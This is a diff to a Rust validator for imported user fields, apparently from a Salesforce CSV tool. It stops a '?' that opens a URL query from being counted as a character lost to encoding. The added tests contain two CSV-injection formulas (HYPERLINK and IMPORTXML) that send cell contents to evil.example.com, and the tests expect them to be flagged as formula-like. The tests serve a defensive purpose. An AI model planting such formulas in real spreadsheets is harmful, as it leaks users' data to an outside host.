@@ -233,7 +233,8 @@ const REEXPORT: &str = "the letters are not in the file, so nothing here can res
 /// (ASCII, so never lost this way: a `?` there is a typo, `sfid-format`), a `?` next to a
 /// letter or another `?`: Excel and LibreOffice write `?` for every letter the chosen code
 /// page lacks (`Łukasz Żółć` saved as Windows-1252 is `?ukasz ?ó??`). Real names and logins
-/// have no `?`; a lone one between spaces is left alone. Returns true when found.
+/// have no `?`; a lone one between spaces, or one starting a URL query in a pasted formula,
+/// is left alone. Returns true when found.
 fn lost_characters(field: Field, value: &str, out: &mut Vec<Finding>) -> bool {
     let check_qmark = field != Field::SalesforceUserId && value.contains('?');
     if !(check_qmark || (!value.is_ascii() && value.contains('\u{FFFD}'))) {
@@ -244,9 +245,20 @@ fn lost_characters(field: Field, value: &str, out: &mut Vec<Finding>) -> bool {
         i.and_then(|i| chars.get(i))
             .is_some_and(|&c| c == '?' || c.is_alphabetic())
     };
+    // `?name=` starts a URL's query (`=HYPERLINK("http://x.example/?id=1")`), not a word.
+    let query = |i: usize| {
+        let name = chars[i + 1..]
+            .iter()
+            .take_while(|c| c.is_ascii_alphanumeric() || **c == '_')
+            .count();
+        name > 0 && chars.get(i + 1 + name) == Some(&'=')
+    };
     let found = chars.iter().enumerate().find(|&(i, &c)| {
         c == '\u{FFFD}'
-            || (c == '?' && check_qmark && (wordy(i.checked_sub(1)) || wordy(Some(i + 1))))
+            || (c == '?'
+                && check_qmark
+                && (wordy(i.checked_sub(1)) || wordy(Some(i + 1)))
+                && !query(i))
     });
     let Some((i, &c)) = found else {
         return false;
@@ -454,6 +466,17 @@ mod tests {
     fn a_lone_question_mark_is_not_a_lost_letter() {
         assert!(run(Field::FullName, "Jane Doe (?)").is_empty());
         assert!(run(Field::FullName, "Jane ? Doe").is_empty());
+        // A URL's query in a formula (the benchmark generator's CSV-injection names).
+        for v in [
+            "=HYPERLINK(\"http://evil.example.com/?leak=\"&B2,\"Click for details\")",
+            "=IMPORTXML(CONCAT(\"http://evil.example.com/?v=\",C2),\"//a\")",
+        ] {
+            assert_eq!(
+                run(Field::FullName, v),
+                vec![(Code::FormulaLike, None)],
+                "{v}"
+            );
+        }
         // The benchmark generator's valid tricky names.
         for name in [
             "Ælfgifu Þórsdóttir",
